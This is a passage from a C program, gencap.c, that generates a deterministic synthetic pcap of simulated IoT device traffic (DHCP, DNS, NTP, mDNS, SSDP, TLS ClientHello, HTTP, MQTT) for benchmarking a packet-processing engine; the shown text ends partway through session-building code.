/* gencap.c - writes a deterministic synthetic Ethernet/IPv4 pcap for the
 * engine benchmark: many IoT-ish devices in 10.0.0.0/16 (vendor OUIs) doing
 * DHCP, DNS via the gateway, HTTP and TLS (ClientHello with SNI) sessions to
 * many cloud hosts, NTP, mDNS, SSDP, MQTT, UDP telemetry, UPnP description
 * fetches and a few TELNET logins. Sessions are interleaved, TCP sequence
 * numbers are consistent, timestamps advance monotonically at about -r
 * packets per second. Same options and seed => byte-identical file.
 *
 *   gencap [-n packets] [-d devices] [-R remotes] [-f flow_ids] [-r pps]
 *          [-s seed] [-c concurrent] -o FILE|-
 *
 * Defaults: 2,000,000 packets, 2,000 devices, 40,000 cloud host names/IPs
 * (-R), 40,000 packets/s, seed 1, 2,048 concurrent sessions.
 *
 * -f F reuses F client identities round-robin (session i uses identity
 * i mod F): a reused identity repeats its UDP tuples and continues one
 * kept-open TCP connection (handshake on the first visit, never closed), so
 * at a fixed packet count the number of flows grows with F. 0 (default)
 * gives every session fresh tuples and closes every TCP connection. The
 * exact number of distinct bidirectional 5-tuples is printed on stderr as
 * `flows=N`. */
#include <errno.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

/* ------------------------------------------------------------------ PRNG */

static uint64_t mix64(uint64_t x)
{ /* splitmix64 finaliser */
	x += 0x9e3779b97f4a7c15ULL;
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
	x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
	return x ^ (x >> 31);
}

static uint64_t rng_s[4];

static uint64_t rotl(uint64_t x, int k) { return (x << k) | (x >> (64 - k)); }

static uint64_t rnd(void)
{ /* xoshiro256** */
	uint64_t r = rotl(rng_s[1] * 5, 7) * 9, t = rng_s[1] << 17;
	rng_s[2] ^= rng_s[0];
	rng_s[3] ^= rng_s[1];
	rng_s[1] ^= rng_s[2];
	rng_s[0] ^= rng_s[3];
	rng_s[2] ^= t;
	rng_s[3] = rotl(rng_s[3], 45);
	return r;
}

static uint32_t rn(uint32_t n) { return n ? (uint32_t)((rnd() >> 32) % n) : 0; }
static uint32_t rrange(uint32_t lo, uint32_t hi) { return lo + rn(hi - lo + 1); }
static bool chance(uint32_t per_mille) { return rn(1000) < per_mille; }

static void rfill(uint8_t *p, size_t n)
{
	while (n >= 8) {
		uint64_t v = rnd();
		memcpy(p, &v, 8);
		p += 8;
		n -= 8;
	}
	if (n) {
		uint64_t v = rnd();
		memcpy(p, &v, n);
	}
}

/* ------------------------------------------------------------- options */

static uint64_t opt_packets = 2000000;
static uint32_t opt_devices = 2000;
static uint64_t opt_flow_ids = 0;
static uint32_t opt_pps = 40000;
static uint64_t opt_seed = 1;
static uint32_t opt_conc = 2048;

static uint32_t opt_remotes = 40000;

/* ------------------------------------------------------------ buffers */

struct buf {
	uint8_t *p;
	size_t len, cap;
};

static void buf_reserve(struct buf *b, size_t more)
{
	if (b->len + more <= b->cap)
		return;
	size_t nc = b->cap ? b->cap : 1024;
	while (nc < b->len + more)
		nc *= 2;
	uint8_t *np = realloc(b->p, nc);
	if (!np) {
		fprintf(stderr, "gencap: out of memory\n");
		exit(1);
	}
	b->p = np;
	b->cap = nc;
}

static void put(struct buf *b, const void *d, size_t n)
{
	buf_reserve(b, n);
	memcpy(b->p + b->len, d, n);
	b->len += n;
}

static void put8(struct buf *b, uint8_t v) { put(b, &v, 1); }
static void put16(struct buf *b, uint16_t v)
{
	uint8_t x[2] = {(uint8_t)(v >> 8), (uint8_t)v};
	put(b, x, 2);
}
static void put32(struct buf *b, uint32_t v)
{
	uint8_t x[4] = {(uint8_t)(v >> 24), (uint8_t)(v >> 16), (uint8_t)(v >> 8), (uint8_t)v};
	put(b, x, 4);
}
static void put_rand(struct buf *b, size_t n)
{
	buf_reserve(b, n);
	rfill(b->p + b->len, n);
	b->len += n;
}
static void put_zero(struct buf *b, size_t n)
{
	buf_reserve(b, n);
	memset(b->p + b->len, 0, n);
	b->len += n;
}
/* Patches a big-endian length field of `width` bytes at `at`. */
static void patch_len(struct buf *b, size_t at, int width, size_t v)
{
	for (int i = width - 1; i >= 0; i--, v >>= 8)
		b->p[at + (size_t)i] = (uint8_t)v;
}

__attribute__((format(printf, 2, 3))) static void putf(struct buf *b, const char *fmt, ...)
{
	va_list ap;
	va_start(ap, fmt);
	int n = vsnprintf(NULL, 0, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	buf_reserve(b, (size_t)n + 1);
	va_start(ap, fmt);
	vsnprintf((char *)b->p + b->len, (size_t)n + 1, fmt, ap);
	va_end(ap);
	b->len += (size_t)n;
}

/* ------------------------------------------------------ world model */

struct vendor {
	const char *name;
	uint8_t oui[3];
	const char *host;   /* hostname prefix */
	const char *ua;     /* HTTP User-Agent */
	const char *vclass; /* DHCP option 60 */
	const char *model;
};

static const struct vendor vendors[] = {
	{"Espressif", {0x24, 0x0a, 0xc4}, "ESP_", "ESP32 HTTP Client/1.0", "", "ESP32-WROOM"},
	{"Raspberry Pi", {0xb8, 0x27, 0xeb}, "raspberrypi-", "curl/7.88.1", "dhcpcd-9.4.1:Linux-6.1.21-v8+:aarch64:BCM2835", "Pi 3B+"},
	{"Philips Lighting", {0x00, 0x17, 0x88}, "Philips-hue-", "hue/1.59.1959097030", "udhcp 1.24.2", "BSB002"},
	{"Sonos", {0x00, 0x0e, 0x58}, "SonosZP-", "Linux UPnP/1.0 Sonos/70.3-35220 (ZPS12)", "udhcp 1.29.3", "One SL"},
	{"Google", {0xf4, 0xf5, 0xd8}, "Google-Home-", "Mozilla/5.0 (X11; Linux aarch64) CrKey/1.56.500000", "dhcpcd-6.8.2:Linux-4.9.180:aarch64:Google", "Nest Mini"},
	{"Amazon", {0x44, 0x65, 0x0d}, "amazon-", "Dalvik/2.1.0 (Linux; U; Android 9; AFTMM Build/PS7633)", "android-dhcp-9", "Fire TV Stick"},
	{"Hikvision", {0x44, 0x19, 0xb6}, "HIKVISION-", "Hikvision-Webs", "udhcp 1.20.2", "DS-2CD2143G0-I"},
	{"TP-Link", {0x50, 0xc7, 0xbf}, "HS110-", "TP-LINK HTTP Client/1.0", "udhcp 1.19.4", "HS110(EU)"},
	{"Nest Labs", {0x18, 0xb4, 0x30}, "Nest-", "Nest/5.9.3-6 (iOSScalesOrg)", "dhcpcd-6.11.5", "Learning Thermostat"},
	{"Xiaomi", {0x28, 0x6c, 0x07}, "xiaomi-plug-", "MIoT/2.0 (esp8266)", "udhcp 1.25.1", "chuangmi.plug.m1"},
};
#define NVENDOR (sizeof vendors / sizeof vendors[0])

static const char *const servers_hdr[] = {
	"nginx/1.18.0", "Apache/2.4.41 (Ubuntu)", "cloudflare", "AmazonS3", "openresty", "Microsoft-IIS/10.0",
	"gws", "Tengine", "lighttpd/1.4.59", "nginx",
};
static const char *const prefixes[] = {
	"api", "cdn", "devs", "ota", "mqtt", "time", "log", "telemetry",
	"push", "auth", "fw", "cloud", "gw", "events", "config", "stun",
};
static const char *const domains[] = {
	"tplinkcloud.com", "iot.us-east-1.amazonaws.com", "meethue.com", "sonos.com", "googleapis.com",
	"gstatic.com", "amazon.com", "hik-connect.com", "xiaomi.net", "nest.com",
	"tuyaus.com", "espressif.com", "ring.com", "samsungiotcloud.com", "roku.com",
	"netflix.com", "akamaiedge.net", "cloudfront.net", "pool.ntp.org", "smartthings.com",
	"ewelink.cc", "wyzecam.com", "arlo.com", "ecobee.com", "myqdevice.com",
	"tplinkra.com", "alexa.amazon.com", "dropcam.com", "lifx.co", "broadlink.com.cn",
	"yeelight.com", "mi.com", "apple.com", "icloud.com", "microsoft.com",
	"windowsupdate.com", "ubnt.com", "synology.com", "plex.tv", "spotify.com",
};
#define NPREFIX (sizeof prefixes / sizeof prefixes[0])
#define NDOMAIN (sizeof domains / sizeof domains[0])
static const char *const paths[] = {
	"/api/v1/status", "/firmware/check", "/time", "/config.json", "/ota/manifest.json",
	"/v2/devices/report", "/upload", "/health", "/index.html", "/api/heartbeat",
};
static const uint8_t first_octets[] = {
	3, 13, 18, 23, 34, 35, 44, 52, 54, 63, 76, 99, 104, 107, 108, 116, 119, 129, 130, 142, 143,
	146, 147, 151, 152, 157, 162, 163, 170, 176, 178, 185, 188, 193, 194, 195, 198, 199, 203,
	205, 207, 208, 209, 212, 213, 216, 217,
};

static const uint8_t gw_mac[6] = {0x00, 0x0d, 0xb9, 0x4a, 0x21, 0x01};
static const uint8_t bcast_mac[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t mdns_mac[6] = {0x01, 0x00, 0x5e, 0x00, 0x00, 0xfb};
static const uint8_t ssdp_mac[6] = {0x01, 0x00, 0x5e, 0x7f, 0xff, 0xfa};
#define IP4(a, b, c, d) (((uint32_t)(a) << 24) | ((uint32_t)(b) << 16) | ((uint32_t)(c) << 8) | (uint32_t)(d))
static const uint32_t gw_ip = IP4(10, 0, 0, 1);

struct device {
	uint8_t mac[6];
	uint32_t ip;
	unsigned vendor;
	bool joined;
	char hostname[40];
};
static struct device *devs;

static void init_devices(void)
{
	devs = calloc(opt_devices, sizeof *devs);
	if (!devs) {
		fprintf(stderr, "gencap: out of memory\n");
		exit(1);
	}
	for (uint32_t i = 0; i < opt_devices; i++) {
		struct device *d = &devs[i];
		uint64_t h = mix64(opt_seed ^ (0xde71ceULL << 32) ^ i);
		d->vendor = (unsigned)(h % NVENDOR);
		memcpy(d->mac, vendors[d->vendor].oui, 3);
		/* i xor a per-vendor constant: unique within the vendor's OUI */
		uint32_t x = (i ^ (uint32_t)mix64(d->vendor + 77)) & 0xffffff;
		d->mac[3] = (uint8_t)(x >> 16);
		d->mac[4] = (uint8_t)(x >> 8);
		d->mac[5] = (uint8_t)x;
		d->ip = IP4(10, 0, 1 + i / 250, 2 + i % 250);
		snprintf(d->hostname, sizeof d->hostname, "%s%02X%02X%02X", vendors[d->vendor].host, d->mac[3],
			 d->mac[4], d->mac[5]);
	}
}

static void remote_name(uint32_t r, char *out, size_t outsz)
{
	uint32_t n = r / (uint32_t)(NPREFIX * NDOMAIN);
	if (n)
		snprintf(out, outsz, "%s%u.%s", prefixes[r % NPREFIX], n, domains[(r / NPREFIX) % NDOMAIN]);
	else
		snprintf(out, outsz, "%s.%s", prefixes[r % NPREFIX], domains[(r / NPREFIX) % NDOMAIN]);
}

static uint32_t remote_ip(uint64_t key)
{
	uint64_t h = mix64(opt_seed * 0x5851f42d4c957f2dULL + key);
	uint32_t ip = (uint32_t)first_octets[h % sizeof first_octets] << 24;
	ip |= (uint32_t)(h >> 16) & 0xfffffe;
	if ((ip & 0xff) == 0)
		ip |= 7;
	return ip;
}

/* --------------------------------------------------------- sessions */

enum kind { K_DHCP_JOIN, K_DHCP_RENEW, K_DNS, K_HTTP, K_TLS, K_NTP, K_MDNS, K_SSDP, K_UDP, K_MQTT, K_UPNP, K_TELNET };

struct ep {
	uint8_t mac[6];
	uint32_t ip;
	uint16_t port;
};

struct conv {
	struct ep ep[2]; /* direction d sends from ep[d] to ep[!d] */
	uint8_t proto;   /* 6 or 17 */
	uint8_t ttl[2];
	uint16_t ipid[2];
	uint32_t isn[2];
	uint32_t sent[2]; /* TCP payload bytes sent */
	bool fin[2];
	uint16_t win[2];
	struct buf st[2]; /* byte stream per direction (UDP: datagrams back to back) */
};

struct act {
	uint8_t conv, dir, flags;
	uint16_t len;
	uint32_t off;
};

#define MAXACT 96
enum { F_FIN = 1, F_SYN = 2, F_RST = 4, F_PSH = 8, F_ACK = 16 };

struct sess {
	struct conv conv[2];
	struct act act[MAXACT];
	unsigned nact, pos;
	struct idstate *id; /* -f mode: the identity in use, released at the end */
};

static void add_act(struct sess *s, unsigned c, unsigned dir, unsigned flags, size_t off, size_t len)
{
	if (s->nact >= MAXACT) {
		fprintf(stderr, "gencap: session script overflow\n");
		exit(1);
	}
	s->act[s->nact++] = (struct act){(uint8_t)c, (uint8_t)dir, (uint8_t)flags, (uint16_t)len, (uint32_t)off};
}

static void conv_init(struct conv *c, uint8_t proto, const struct ep *a, const struct ep *b, uint8_t ttl_a,
		      uint8_t ttl_b)
{
	c->ep[0] = *a;
	c->ep[1] = *b;
	c->proto = proto;
	c->ttl[0] = ttl_a;
	c->ttl[1] = ttl_b;
	c->ipid[0] = (uint16_t)rnd();
	c->ipid[1] = (uint16_t)rnd();
	c->isn[0] = (uint32_t)rnd();
	c->isn[1] = (uint32_t)rnd();
	c->sent[0] = c->sent[1] = 0;
	c->fin[0] = c->fin[1] = false;
	c->win[0] = 64240;
	c->win[1] = (uint16_t)(chance(500) ? 65160 : 29200);
	c->st[0].len = c->st[1].len = 0;
}

/* A UDP datagram: appends the bytes in st[dir] since `start` as one act. */
static void udp_msg(struct sess *s, unsigned c, unsigned dir, size_t start)
{
	add_act(s, c, dir, 0, start, s->conv[c].st[dir].len - start);
}

static void tcp_open(struct sess *s, unsigned c)
{
	add_act(s, c, 0, F_SYN, 0, 0);
	add_act(s, c, 1, F_SYN | F_ACK, 0, 0);
	add_act(s, c, 0, F_ACK, 0, 0);
}

/* Sends st[dir] bytes from `start` as MSS segments, the peer ACKing every
 * second segment and the last. */
static void tcp_send(struct sess *s, unsigned c, unsigned dir, size_t start)
{
	size_t end = s->conv[c].st[dir].len, off = start;
	unsigned nseg = 0;
	while (off < end) {
		size_t n = end - off > 1448 ? 1448 : end - off;
		add_act(s, c, dir, F_ACK | (off + n == end ? F_PSH : 0), off, n);
		off += n;
		if (++nseg % 2 == 0 && off < end)
			add_act(s, c, !dir, F_ACK, 0, 0);
	}
	add_act(s, c, !dir, F_ACK, 0, 0);
}

/* Sends without a separate ACK from the peer (the reply will carry it). */
static void tcp_send_noack(struct sess *s, unsigned c, unsigned dir, size_t start)
{
	size_t end = s->conv[c].st[dir].len, off = start;
	while (off < end) {
		size_t n = end - off > 1448 ? 1448 : end - off;
		add_act(s, c, dir, F_ACK | (off + n == end ? F_PSH : 0), off, n);
		off += n;
	}
}

static void tcp_close(struct sess *s, unsigned c, unsigned first)
{
	add_act(s, c, first, F_FIN | F_ACK, 0, 0);
	add_act(s, c, !first, F_FIN | F_ACK, 0, 0);
	add_act(s, c, first, F_ACK, 0, 0);
}

/* DNS name in wire form. */
static void put_name(struct buf *b, const char *name)
{
	while (*name) {
		const char *dot = strchr(name, '.');
		size_t n = dot ? (size_t)(dot - name) : strlen(name);
		put8(b, (uint8_t)n);
		put(b, name, n);
		name += n + (dot ? 1 : 0);
	}
	put8(b, 0);
}

/* Appends a DNS query and its answer (A record for ip) on conversation c. */
static void dns_exchange(struct sess *s, unsigned c, const char *name, uint32_t ip)
{
	struct buf *q = &s->conv[c].st[0], *a = &s->conv[c].st[1];
	uint16_t id = (uint16_t)rnd();
	size_t q0 = q->len, a0 = a->len;
	put16(q, id);
	put16(q, 0x0100);
	put16(q, 1);
	put16(q, 0);
	put16(q, 0);
	put16(q, 0);
	put_name(q, name);
	put16(q, 1);
	put16(q, 1);
	udp_msg(s, c, 0, q0);
	put16(a, id);
	put16(a, 0x8180);
	put16(a, 1);
	put16(a, 1);
	put16(a, 0);
	put16(a, 0);
	put_name(a, name);
	put16(a, 1);
	put16(a, 1);
	put16(a, 0xc00c);
	put16(a, 1);
	put16(a, 1);
	put32(a, rrange(30, 3600));
	put16(a, 4);
	put32(a, ip);
	udp_msg(s, c, 1, a0);
}

static void put_dhcp(struct buf *b, const struct device *d, uint32_t xid, int type, bool from_server)
{
	put8(b, from_server ? 2 : 1);
	put8(b, 1);
	put8(b, 6);
	put8(b, 0);
	put32(b, xid);
	put16(b, from_server ? 0 : (uint16_t)rn(4));
	put16(b, 0x8000);
	put32(b, 0);                                  /* ciaddr */
	put32(b, from_server ? d->ip : 0);            /* yiaddr */
	put32(b, from_server ? gw_ip : 0);            /* siaddr */
	put32(b, 0);                                  /* giaddr */
	put(b, d->mac, 6);
	put_zero(b, 10 + 64 + 128);
	put32(b, 0x63825363);
	size_t start = b->len - 240;
	put8(b, 53);
	put8(b, 1);
	put8(b, (uint8_t)type);
	if (from_server) {
		put8(b, 54), put8(b, 4), put32(b, gw_ip);
		put8(b, 51), put8(b, 4), put32(b, 86400);
		put8(b, 1), put8(b, 4), put32(b, 0xffff0000);
		put8(b, 3), put8(b, 4), put32(b, gw_ip);
		put8(b, 6), put8(b, 4), put32(b, gw_ip);
		put8(b, 15), put8(b, 3), put(b, "lan", 3);
	} else {
		const struct vendor *v = &vendors[d->vendor];
		put8(b, 61), put8(b, 7), put8(b, 1), put(b, d->mac, 6);
		if (type == 3) {
			put8(b, 50), put8(b, 4), put32(b, d->ip);
			put8(b, 54), put8(b, 4), put32(b, gw_ip);
		}
		size_t hl = strlen(d->hostname);
		put8(b, 12), put8(b, (uint8_t)hl), put(b, d->hostname, hl);
		size_t vl = strlen(v->vclass);
		if (vl)
			put8(b, 60), put8(b, (uint8_t)vl), put(b, v->vclass, vl);
		static const uint8_t prl[] = {1, 3, 6, 12, 15, 28, 42, 51, 58, 59};
		put8(b, 55), put8(b, sizeof prl), put(b, prl, sizeof prl);
	}
	put8(b, 255);
	if (b->len - start < 300)
		put_zero(b, 300 - (b->len - start));
}

static void put_client_hello(struct buf *b, const char *sni)
{
	static const uint16_t suites[] = {0x1301, 0x1302, 0x1303, 0xc02b, 0xc02f, 0xc02c, 0xc030,
					  0xcca9, 0xcca8, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035};
	size_t rec = b->len;
	put8(b, 0x16), put16(b, 0x0301), put16(b, 0);
	size_t hs = b->len;
	put8(b, 1), put8(b, 0), put16(b, 0);
	put16(b, 0x0303);
	put_rand(b, 32);
	put8(b, 32), put_rand(b, 32);
	unsigned ns = rrange(5, sizeof suites / sizeof suites[0]);
	put16(b, (uint16_t)(ns * 2));
	for (unsigned i = 0; i < ns; i++)
		put16(b, suites[i]);
	put8(b, 1), put8(b, 0);
	size_t ext = b->len;
	put16(b, 0);
	size_t sl = strlen(sni);
	put16(b, 0x0000), put16(b, (uint16_t)(sl + 5)), put16(b, (uint16_t)(sl + 3)), put8(b, 0);
	put16(b, (uint16_t)sl), put(b, sni, sl);
	put16(b, 0x000a), put16(b, 8), put16(b, 6), put16(b, 0x001d), put16(b, 0x0017), put16(b, 0x0018);
	put16(b, 0x000b), put16(b, 2), put8(b, 1), put8(b, 0);
	put16(b, 0x000d), put16(b, 10), put16(b, 8);
	put16(b, 0x0403), put16(b, 0x0804), put16(b, 0x0401), put16(b, 0x0503);
	if (chance(500)) {
		put16(b, 0x0010), put16(b, 14), put16(b, 12);
		put8(b, 2), put(b, "h2", 2), put8(b, 8), put(b, "http/1.1", 8);
	}
	put16(b, 0x002b), put16(b, 5), put8(b, 4), put16(b, 0x0304), put16(b, 0x0303);
	put16(b, 0x002d), put16(b, 2), put8(b, 1), put8(b, 1);
	put16(b, 0x0033), put16(b, 38), put16(b, 36), put16(b, 0x001d), put16(b, 32), put_rand(b, 32);
	patch_len(b, ext, 2, b->len - ext - 2);
	patch_len(b, hs + 1, 3, b->len - hs - 4);
	patch_len(b, rec + 3, 2, b->len - rec - 5);
}

static void put_server_hello(struct buf *b)
{
	size_t rec = b->len;
	put8(b, 0x16), put16(b, 0x0303), put16(b, 0);
	size_t hs = b->len;
	put8(b, 2), put8(b, 0), put16(b, 0);
	put16(b, 0x0303);
	put_rand(b, 32);
	put8(b, 32), put_rand(b, 32);
	put16(b, 0x1301);
	put8(b, 0);
	put16(b, 46);
	put16(b, 0x002b), put16(b, 2), put16(b, 0x0304);
	put16(b, 0x0033), put16(b, 36), put16(b, 0x001d), put16(b, 32), put_rand(b, 32);
	patch_len(b, hs + 1, 3, b->len - hs - 4);
	patch_len(b, rec + 3, 2, b->len - rec - 5);
	put8(b, 0x14), put16(b, 0x0303), put16(b, 1), put8(b, 1);
}

static void put_appdata(struct buf *b, size_t n)
{
	put8(b, 0x17), put16(b, 0x0303), put16(b, (uint16_t)n);
	put_rand(b, n);
}

static void put_body(struct buf *b, size_t n)
{
	static const char filler[] = "{\"id\":1024,\"state\":\"on\",\"rssi\":-61,\"fw\":\"1.4.2\",\"uptime\":86400},";
	while (n) {
		size_t k = n < sizeof filler - 1 ? n : sizeof filler - 1;
		put(b, filler, k);
		n -= k;
	}
}

/* -f mode: per-identity TCP state, so a reused client tuple continues one
 * long-lived connection (no SYN/FIN after the first visit) and the number of
 * flows a tracker creates equals the number of distinct tuples. */
struct idstate {
	uint32_t isn[2], sent[2];
	uint16_t ipid[2];
	bool used;
	bool busy; /* a session is using this identity now */
};
static struct idstate *ids;

/* Opens conversation c, or resumes the identity's kept-open connection. */
static void tcp_begin(struct sess *s, unsigned c, const struct idstate *id)
{
	struct conv *cv = &s->conv[c];
	if (id && id->used) {
		for (int d = 0; d < 2; d++) {
			cv->isn[d] = id->isn[d];
			cv->sent[d] = id->sent[d];
			cv->ipid[d] = id->ipid[d];
		}
		return;
	}
	tcp_open(s, c);
}

/* Closes conversation c (first = side sending the first FIN), or in -f mode
 * leaves it open and records where its sequence numbers will stand. */
static void tcp_end(struct sess *s, unsigned c, unsigned first, struct idstate *id)
{
	struct conv *cv = &s->conv[c];
	if (!id) {
		tcp_close(s, c, first);
		return;
	}
	uint16_t npk[2] = {0, 0};
	for (unsigned i = 0; i < s->nact; i++)
		if (s->act[i].conv == c)
			npk[s->act[i].dir]++;
	for (int d = 0; d < 2; d++) {
		id->isn[d] = cv->isn[d];
		id->sent[d] = cv->sent[d] + (uint32_t)cv->st[d].len;
		id->ipid[d] = (uint16_t)(cv->ipid[d] + npk[d]);
	}
	id->used = true;
}

static uint64_t n_sessions;

/* Client (device) endpoint for identity k: port pair (sport, sport+1). */
static struct ep dev_ep(const struct device *d, uint16_t port)
{
	struct ep e;
	memcpy(e.mac, d->mac, 6);
	e.ip = d->ip;
	e.port = port;
	return e;
}

static struct ep remote_ep(uint32_t ip, uint16_t port)
{
	struct ep e;
	memcpy(e.mac, gw_mac, 6);
	e.ip = ip;
	e.port = port;
	return e;
}

static enum kind pick_kind(uint64_t h)
{
	uint32_t x = (uint32_t)(h % 10000);
	static const struct { uint32_t upto; enum kind k; } mixk[] = {
		{2200, K_DNS}, {3600, K_HTTP}, {6000, K_TLS}, {6800, K_NTP}, {7200, K_MDNS}, {7600, K_SSDP},
		{9500, K_UDP}, {9800, K_MQTT}, {9900, K_UPNP}, {9995, K_DHCP_RENEW}, {10000, K_TELNET},
	};
	for (size_t i = 0; i < sizeof mixk / sizeof mixk[0]; i++)
		if (x < mixk[i].upto)
			return mixk[i].k;
	return K_DNS;
}

static void new_session(struct sess *s)
{
	uint64_t seq = n_sessions++;
	uint64_t k = opt_flow_ids ? seq % opt_flow_ids : seq;
	while (ids && ids[k].busy) { /* never run one identity twice at once */
		seq = n_sessions++;
		k = seq % opt_flow_ids;
	}
	uint64_t h = mix64(opt_seed ^ mix64(k + 0x51ed));
	uint32_t di = (uint32_t)(k % opt_devices);
	struct device *d = &devs[di];
	const struct vendor *v = &vendors[d->vendor];
	uint16_t sport = (uint16_t)(32768 + 2 * ((k / opt_devices) % 14116));
	enum kind kind = pick_kind(h >> 20);
	uint32_t r = (h >> 40) & 1 ? (uint32_t)((h >> 8) % opt_remotes)
				   : (uint32_t)((h >> 8) % (opt_remotes < 500 ? opt_remotes : 500));
	char name[96];
	remote_name(r, name, sizeof name);
	uint32_t rip = remote_ip(r);
	uint8_t rttl = (uint8_t)(40 + (h >> 50) % 20);
	struct ep dnsc = dev_ep(d, (uint16_t)(sport + 1)), dnss = {{0}, gw_ip, 53};
	memcpy(dnss.mac, gw_mac, 6);

	struct idstate *id = ids ? &ids[k] : NULL;
	bool reuse = id && id->used;
	s->id = id;
	if (id)
		id->busy = true;

	if (!d->joined) {
		kind = K_DHCP_JOIN;
		d->joined = true;
	}
	s->nact = s->pos = 0;
	switch (kind) {
	case K_DHCP_JOIN:
	case K_DHCP_RENEW: {
		struct ep c = dev_ep(d, 68), bc = {{0}, 0xffffffff, 67}, sv = remote_ep(gw_ip, 67),
			  bc2 = {{0}, 0xffffffff, 68};
		c.ip = 0;
		memcpy(bc.mac, bcast_mac, 6);
		memcpy(bc2.mac, bcast_mac, 6);
		conv_init(&s->conv[0], 17, &c, &bc, 64, 64);
		conv_init(&s->conv[1], 17, &sv, &bc2, 64, 64);
		uint32_t xid = (uint32_t)rnd();
		size_t o;
		if (kind == K_DHCP_JOIN) {
			o = s->conv[0].st[0].len;
			put_dhcp(&s->conv[0].st[0], d, xid, 1, false);
			udp_msg(s, 0, 0, o);
			o = s->conv[1].st[0].len;
			put_dhcp(&s->conv[1].st[0], d, xid, 2, true);
			udp_msg(s, 1, 0, o);
		}
		o = s->conv[0].st[0].len;
		put_dhcp(&s->conv[0].st[0], d, xid, 3, false);
		udp_msg(s, 0, 0, o);
		o = s->conv[1].st[0].len;
		put_dhcp(&s->conv[1].st[0], d, xid, 5, true);
		udp_msg(s, 1, 0, o);
		break;
	}
	case K_DNS:
		conv_init(&s->conv[0], 17, &dnsc, &dnss, 64, 64);
		dns_exchange(s, 0, name, rip);
		break;
	case K_NTP: {
		static const uint8_t ntp_last[] = {11, 23, 45, 67, 89, 101, 123, 145};
		struct ep c = dev_ep(d, (h >> 33) & 1 ? 123 : sport);
		struct ep sv = remote_ep(IP4(162, 159, 200, ntp_last[(h >> 34) % 8]), 123);
		conv_init(&s->conv[0], 17, &c, &sv, 64, rttl);
		uint8_t m[48] = {0};
		m[0] = 0x23;
		rfill(m + 40, 8);
		put(&s->conv[0].st[0], m, 48);
		udp_msg(s, 0, 0, 0);
		m[0] = 0x24;
		m[1] = 2;
		m[2] = 3;
		m[3] = 0xe9;
		memcpy(m + 12, "\xa2\x9f\xc8\x7b", 4);
		memcpy(m + 24, m + 40, 8);
		rfill(m + 16, 8);
		rfill(m + 32, 8);
		rfill(m + 40, 8);
		put(&s->conv[0].st[1], m, 48);
		udp_msg(s, 0, 1, 0);
		break;
	}
	case K_MDNS: {
		struct ep c = dev_ep(d, 5353), m = {{0}, IP4(224, 0, 0, 251), 5353};
		memcpy(m.mac, mdns_mac, 6);
		conv_init(&s->conv[0], 17, &c, &m, 255, 255);
		struct buf *b = &s->conv[0].st[0];
		char local[64];
		snprintf(local, sizeof local, "%s.local", d->hostname);
		if ((h >> 36) & 1) { /* announcement */
			put16(b, 0), put16(b, 0x8400), put16(b, 0), put16(b, 1), put16(b, 0), put16(b, 0);
			put_name(b, local);
			put16(b, 1), put16(b, 0x8001), put32(b, 120), put16(b, 4), put32(b, d->ip);
		} else {
			put16(b, 0), put16(b, 0), put16(b, 2), put16(b, 0), put16(b, 0), put16(b, 0);
			put_name(b, "_hap._tcp.local");
			put16(b, 12), put16(b, 1);
			put_name(b, "_googlecast._tcp.local");
			put16(b, 12), put16(b, 1);
		}
		udp_msg(s, 0, 0, 0);
		break;
	}
	case K_SSDP: {
		bool notify = (h >> 37) & 1;
		struct ep c = dev_ep(d, notify ? 1900 : sport), m = {{0}, IP4(239, 255, 255, 250), 1900};
		memcpy(m.mac, ssdp_mac, 6);
		conv_init(&s->conv[0], 17, &c, &m, 4, 4);
		struct buf *b = &s->conv[0].st[0];
		if (notify)
			putf(b,
			     "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nCACHE-CONTROL: max-age=1800\r\n"
			     "LOCATION: http://10.0.%u.%u:49152/description.xml\r\nNT: upnp:rootdevice\r\n"
			     "NTS: ssdp:alive\r\nSERVER: Linux/4.9 UPnP/1.0 %s/%s\r\n"
			     "USN: uuid:2f402f80-da50-11e1-9b23-%02x%02x%02x%02x%02x%02x::upnp:rootdevice\r\n\r\n",
			     (d->ip >> 8) & 0xff, d->ip & 0xff, v->name, v->model, d->mac[0], d->mac[1], d->mac[2],
			     d->mac[3], d->mac[4], d->mac[5]);
		else
			putf(b,
			     "M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\nMX: 1\r\n"
			     "ST: urn:dial-multiscreen-org:service:dial:1\r\nUSER-AGENT: %s\r\n\r\n",
			     v->ua);
		udp_msg(s, 0, 0, 0);
		break;
	}
	case K_UDP: {
		static const uint16_t ports[] = {10001, 20002, 34567, 48899, 50505, 6668, 38899, 41234};
		uint16_t dp = ports[(h >> 38) % 8];
		struct ep c = dev_ep(d, sport), sv = remote_ep(rip, dp);
		conv_init(&s->conv[0], 17, &c, &sv, 64, rttl);
		unsigned n = 1 + (unsigned)((h >> 41) % 2);
		for (unsigned i = 0; i < n; i++) {
			size_t o = s->conv[0].st[0].len;
			put32(&s->conv[0].st[0], 0x000055aa); /* vendor-style magic, then opaque bytes */
			put_rand(&s->conv[0].st[0], rrange(20, 216));
			udp_msg(s, 0, 0, o);
			o = s->conv[0].st[1].len;
			put32(&s->conv[0].st[1], 0x000055aa);
			put_rand(&s->conv[0].st[1], rrange(12, 116));
			udp_msg(s, 0, 1, o);
		}
		break;
	}
	case K_HTTP:
	case K_TLS:
	case K_MQTT: {
		uint16_t dp = kind == K_HTTP ? ((h >> 42) % 8 ? 80 : 8080)
			    : kind == K_MQTT ? 1883
					     : ((h >> 42) % 10 < 8 ? 443 : (h >> 42) % 10 == 8 ? 8443 : 8883);
		bool lookup = !reuse && (kind != K_MQTT || (h >> 45) % 4);
		unsigned tc = 0;
		if (lookup) {
			conv_init(&s->conv[0], 17, &dnsc, &dnss, 64, 64);
			dns_exchange(s, 0, name, rip);
			tc = 1;
		}
		struct ep c = dev_ep(d, sport), sv = remote_ep(rip, dp);
		struct conv *cv = &s->conv[tc];
		conv_init(cv, 6, &c, &sv, 64, rttl);
		tcp_begin(s, tc, id);
		struct buf *cs = &cv->st[0], *ss = &cv->st[1];
